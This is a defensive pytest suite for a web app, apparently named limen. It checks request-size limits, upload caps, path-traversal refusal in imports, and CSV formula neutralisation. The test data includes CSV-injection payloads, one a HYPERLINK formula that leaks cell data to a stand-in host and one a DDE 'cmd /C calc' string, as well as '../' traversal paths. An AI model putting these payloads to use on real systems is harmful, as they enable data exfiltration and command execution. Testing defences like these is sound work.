"""Clean refusals: request bodies limited before they are read (in the app and under waitress), uploads limited
per file while they arrive, refused uploads leave nothing in the store, folder imports stay inside the import
root, and CSV exports cannot carry spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import select
import socket
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from webapp_helpers import MINI, accounts_app, demo_app, login, read_all, reader_client

MB = 1024 * 1024


class _Counting(io.RawIOBase):
    """A request body that counts what the server read of it (and may refuse to be read at all)."""

    def __init__(self, data: bytes, forbid: bool = False):
        self._b = io.BytesIO(data)
        self.read_bytes = 0
        self._forbid = forbid

    def readable(self):
        return True

    def seekable(self):
        return True

    def tell(self):
        return self._b.tell()

    def seek(self, pos, whence=0):
        return self._b.seek(pos, whence)

    def readinto(self, buf):
        if self._forbid:
            raise AssertionError("the body was read")
        n = self._b.readinto(buf)
        self.read_bytes += n
        return n


def _store_files(app) -> list[Path]:
    return sorted(p for p in Path(app.config["STORE_DIR"]).rglob("*") if p.is_file())


def _draft(c, tok) -> int:
    r = c.post(
        "/coordinator/studies/new", data={"name": "limits", "layout": "cairn-demo-plate.toml", "csrf_token": tok}
    )
    assert r.status_code == 302, r.text
    return int(r.headers["Location"].rstrip("/").split("/")[-1])


def _dicom(path: Path, seed: int = 0) -> Path:
    from scorer.images import write_dicom

    px = np.random.default_rng(seed).integers(1000, 3000, size=(64, 64)).astype(np.uint16)
    return write_dicom(path, px, (0.085, 0.085))


# --------------------------------------------------------------------------- request bodies
def _declared(client, url, length, content_type, **kw):
    """POST a body that declares ``length`` bytes and fails the test if the server reads any of it."""
    return client.post(
        url,
        input_stream=_Counting(b"", forbid=True),
        content_type=content_type,
        environ_overrides={"CONTENT_LENGTH": str(length)},
        **kw,
    )


def test_an_anonymous_body_over_the_form_limit_is_refused_unread(tmp_path):
    app = accounts_app(tmp_path, ("coordinator", "reader1"))
    c = app.test_client()
    form = "application/x-www-form-urlencoded"
    r = _declared(c, "/login", 2 * MB, form)
    assert r.status_code == 413 and "larger than the 1 MB this page accepts" in r.text
    assert _declared(c, "/login", 600 * MB, form).status_code == 413
    # anonymous on an upload route: the small limit, not the coordinator's
    assert _declared(c, "/coordinator/studies/1/images", 2 * MB, "multipart/form-data; boundary=x").status_code == 413
    # a reader's requests are small too: only a coordinator's upload routes take large bodies
    rc = app.test_client()
    tok = login(rc, "reader1")
    r = _declared(
        rc, "/coordinator/studies/1/images", 2 * MB, "multipart/form-data; boundary=x", headers={"X-CSRFToken": tok}
    )
    assert r.status_code == 413
    # a coordinator's upload may be larger (read whole, and refused here only for its empty detector label)
    cc = app.test_client()
    tok = login(cc, "coordinator")
    sid = _draft(cc, tok)
    r = cc.post(
        f"/coordinator/studies/{sid}/images",
        data={"csrf_token": tok, "detector": "", "images": (io.BytesIO(b"\0" * (2 * MB)), "a.dcm")},
        content_type="multipart/form-data",
    )
    assert r.status_code == 400 and "detector label" in r.text


def test_a_chunked_body_is_cut_off_at_the_limit(tmp_path):
    app = accounts_app(tmp_path)
    c = app.test_client()
    body = _Counting(b"username=" + b"a" * (8 * MB))
    r = c.post(
        "/login",
        input_stream=body,
        content_type="application/x-www-form-urlencoded",
        headers={"Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert r.status_code == 413 and body.read_bytes <= 2 * MB


def test_an_upload_is_limited_per_file_while_it_arrives(tmp_path):
    from werkzeug.test import EnvironBuilder

    app = accounts_app(tmp_path, MAX_IMAGE_BYTES=1 * MB)
    c = app.test_client()
    tok = login(c, "coordinator")
    sid = _draft(c, tok)
    env = EnvironBuilder(
        method="POST",
        data={"csrf_token": tok, "detector": "A", "images": (io.BytesIO(b"\0" * (6 * MB)), "huge plate.dcm")},
    ).get_environ()
    raw = env["wsgi.input"].read()
    body = _Counting(raw)
    r = c.post(
        f"/coordinator/studies/{sid}/images",
        input_stream=body,
        content_length=len(raw),
        content_type=env["CONTENT_TYPE"],
    )
    # the file is refused by name on the study's page (a batch keeps its other files, test_webapp_upload_batch)
    assert r.status_code == 400 and "huge plate.dcm" in r.text and "larger than the limit of 1 MB" in r.text
    assert 'id="refused-files"' in r.text
    assert _store_files(app) == []


def test_the_upload_spool_keeps_nothing_past_the_file_limit():
    """While a file arrives, nothing past the per-file limit is held (memory or disk), and reading it refuses it."""
    from flask import Flask

    from scorer.errors import LimenError
    from webapp.security import _CappedSpool

    with Flask(__name__).app_context():
        spool = _CappedSpool(1 * MB, "huge plate.dcm")
        for _ in range(6):
            spool.write(b"\0" * MB)
        held = spool._file.seek(0, 2)  # what the spool holds, in memory or in its temporary file
        assert held == 0 and spool.too_large
        spool.seek(0)
        with pytest.raises(LimenError, match="huge plate.dcm: file is larger than the limit of 1 MB"):
            spool.read(1024)


@pytest.fixture
def waitress_server():
    """``limen serve``'s waitress server (scorer.commands.serve.make_server) on a free loopback port."""
    from scorer.commands.serve import make_server

    servers = []

    def start(app):
        srv = make_server(app, host="127.0.0.1", port=0, threads=2)
        th = threading.Thread(target=srv.run, daemon=True)
        th.start()
        servers.append((srv, th))
        return srv.effective_port

    yield start
    for srv, th in servers:
        srv.close()
        th.join(timeout=5)


def _status(sock) -> bytes:
    data = b""
    while b"\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    return data.split(b"\r\n")[0]


def test_waitress_refuses_a_600_mb_post_from_its_headers(tmp_path, waitress_server):
    port = waitress_server(accounts_app(tmp_path))
    head = (
        "POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {600 * MB}\r\n\r\n"
    ).encode()
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(head)  # and not one byte of the body: the answer must come without it
        assert b" 413 " in _status(s) + b" "
    # a small anonymous body over the app's form limit: 413 from the app
    body = b"username=" + b"a" * (2 * MB)
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(
            (
                "POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
            ).encode()
            + body
        )
        assert b" 413 " in _status(s) + b" "


def test_waitress_cuts_a_chunked_body_off_at_the_limit(tmp_path, waitress_server):
    port = waitress_server(accounts_app(tmp_path, MAX_CONTENT_LENGTH=4 * MB))
    chunk = b"a" * 65536
    framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
    sent, status = 0, b""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(
            b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )
        try:
            while sent < 64 * MB:
                s.sendall(framed)
                sent += len(chunk)
                if select.select([s], [], [], 0)[0]:
                    break
        except (BrokenPipeError, ConnectionResetError):
            pass
        try:
            status = _status(s)
        except ConnectionResetError:
            status = b"reset"
    assert b" 413 " in status + b" ", status
    assert sent < 32 * MB  # stopped near the 4 MB limit (plus what the sockets buffered), not at the end


# --------------------------------------------------------------------------- refused uploads leave nothing
def test_refused_uploads_leave_nothing_in_the_store(tmp_path):
    app = accounts_app(tmp_path)
    c = app.test_client()
    tok = login(c, "coordinator")
    sid = _draft(c, tok)
    url = f"/coordinator/studies/{sid}/images"

    def post(*files, **extra):
        return c.post(
            url,
            data={"csrf_token": tok, "detector": "panel A", **extra, "images": list(files)},
            content_type="multipart/form-data",
        )

    not_an_image = b"not an image at all"
    assert len(not_an_image) == 19
    r = post((io.BytesIO(not_an_image), "tiny.png"))
    assert r.status_code == 400 and "tiny.png" in r.text
    big = np.random.default_rng(1).bytes(3 * MB)  # larger than the parser's in-memory spool: a temporary file
    r = post((io.BytesIO(big), "big.dcm"))
    assert r.status_code == 400 and "big.dcm" in r.text
    assert _store_files(app) == []
    # a batch refused for its second file keeps none of it (nor the conversion function sent with it)
    from scorer.images import ConversionFunction, save_conversion

    good = _dicom(tmp_path / "good.dcm").read_bytes()
    save_conversion(ConversionFunction("linear", 50.0, 20.0), tmp_path / "conversion.toml")
    conv = (io.BytesIO((tmp_path / "conversion.toml").read_bytes()), "conversion.toml")
    # a batch with one bad file: the bad one leaves nothing, the good one and the conversion are kept
    # (issue 19: the good files of a batch are accepted)
    r = post((io.BytesIO(not_an_image), "bad.dcm"), conversion_file=conv)
    assert r.status_code == 400 and "bad.dcm" in r.text
    assert _store_files(app) == []  # nothing accepted: not even the conversion function sent with it
    conv = (io.BytesIO((tmp_path / "conversion.toml").read_bytes()), "conversion.toml")
    r = post((io.BytesIO(good), "good.dcm"), (io.BytesIO(not_an_image), "bad.dcm"), conversion_file=conv)
    assert r.status_code == 200 and "bad.dcm" in r.text
    assert sorted(p.suffix for p in _store_files(app)) == [".dcm", ".toml"]
    for p in _store_files(app):
        p.unlink()
    from webapp.models import StudyImage, db

    with app.app_context():
        db().query(StudyImage).delete()
        db().commit()
    # a new study refused after its layout was stored keeps no layout
    r = c.post(
        "/coordinator/studies/new",
        data={
            "csrf_token": tok,
            "name": "refused",
            "trials_per_reader": "many",
            "layout_file": (io.BytesIO(MINI.read_bytes()), "mini.toml"),
        },
        content_type="multipart/form-data",
    )
    assert r.status_code == 400 and "trials per reader" in r.text
    assert _store_files(app) == []
    # what is accepted is kept
    assert post((io.BytesIO(good), "good.dcm")).status_code == 302
    assert [p.suffix for p in _store_files(app)] == [".dcm"]


# --------------------------------------------------------------------------- import root
@pytest.mark.parametrize("how", ["absolute", "dotdot", "symlink", "linked-results"])
def test_an_import_naming_files_outside_the_root_is_refused(tmp_path, how):
    root, outside = tmp_path / "root", tmp_path / "outside"
    folder = root / "scored"
    folder.mkdir(parents=True)
    outside.mkdir()
    secret = _dicom(outside / "elsewhere.dcm")
    _dicom(folder / "inside.dcm", seed=2)
    if how == "absolute":
        listed = str(secret)
    elif how == "dotdot":
        listed = "../../outside/elsewhere.dcm"
    else:
        (folder / "link.dcm").symlink_to(secret)
        listed = "link.dcm"
    results = {"images": [{"path": "inside.dcm"}, {"path": listed}], "settings": {}}
    if how == "linked-results":
        (outside / "results.json").write_text(json.dumps({"images": [{"path": str(secret)}], "settings": {}}))
        (folder / "results.json").symlink_to(outside / "results.json")
    else:
        (folder / "results.json").write_text(json.dumps(results))
    app = accounts_app(tmp_path, IMPORT_ROOT=str(root))
    c = app.test_client()
    tok = login(c, "coordinator")
    sid = _draft(c, tok)
    r = c.post(f"/coordinator/studies/{sid}/import", data={"csrf_token": tok, "folder": "scored", "detector": "A"})
    assert r.status_code == 400 and "outside the import root" in r.text, r.text[:500]
    from webapp.models import StudyImage, db

    with app.app_context():
        assert db().query(StudyImage).count() == 0
    assert _store_files(app) == []


# --------------------------------------------------------------------------- CSV exports
HOSTILE = {
    '=HYPERLINK("http://example.invalid/?"&A1,"open")': "'=HYPERLINK",
    "+1+cmd|' /C calc'!A0": "'+1+cmd",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM",
    "\tTAB=1": "'\tTAB",
    "\r=CR": "'\r=CR",
}


def test_csv_exports_neutralise_formulas_but_keep_numbers(tmp_path):
    """OWASP "CSV Injection" (docs/references.md): text cells starting with = + - @ tab or CR get a leading
    single quote; numbers such as -0.5 stay numbers."""
    from webapp.models import Study, StudyImage, db

    app, sid = demo_app(tmp_path, n_practice=0)  # four images: the first four hostile labels
    c, tok = reader_client(app, sid)
    read_all(c, sid, tok, limit=6)
    labels = list(HOSTILE)
    with app.app_context():
        st = db().get(Study, sid)
        images = db().query(StudyImage).filter_by(study_id=sid).order_by(StudyImage.id).all()
        model = pd.read_csv(io.StringIO(st.model_trials_csv))
        originals = {}
        for k, im in enumerate(images):
            originals[im.detector] = labels[k]
            im.detector = labels[k]
        model["detector"] = [originals[d] for d in model["detector"]]
        numeric = model.select_dtypes("number").columns.tolist()
        model[numeric[0]] = -0.5  # a negative number in a numeric column
        st.model_trials_csv = model.to_csv(index=False)
        db().commit()
    cc = app.test_client()
    login(cc, "coordinator")
    for url in (f"/coordinator/studies/{sid}/responses.csv", f"/coordinator/studies/{sid}/model.csv"):
        text = cc.get(url).text
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in rows for cell in row]
        hostile = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        for cell in hostile:  # what still starts that way is a plain number
            float(cell)
        detectors = {row[rows[0].index("detector")] for row in rows[1:]}
        assert detectors and all(d.startswith("'") for d in detectors), detectors
        assert detectors <= {"'" + label for label in labels}
        back = pd.read_csv(io.StringIO(text))
        assert back.select_dtypes("number").shape[1] >= 4  # numeric columns are read back as numbers
    back = pd.read_csv(io.StringIO(cc.get(f"/coordinator/studies/{sid}/model.csv").text))
    assert (back[numeric[0]] == -0.5).all()
    pd.testing.assert_frame_equal(back[numeric], model[numeric], check_dtype=False)


def test_safe_cell_rules():
    from webapp.csv_safety import safe_cell

    for text, start in HOSTILE.items():
        assert safe_cell(text).startswith(start), text
    for number in ("-0.5", "+3", "-1.25e-05", "-.5", "-7"):
        assert safe_cell(number) == number
    for plain in ("reader1", "img-3fa2", "0.5", "", "a=b"):
        assert safe_cell(plain) == plain
    assert safe_cell("-0.5 ") == "'-0.5 " and safe_cell("\t1") == "'\t1"  # not a bare number
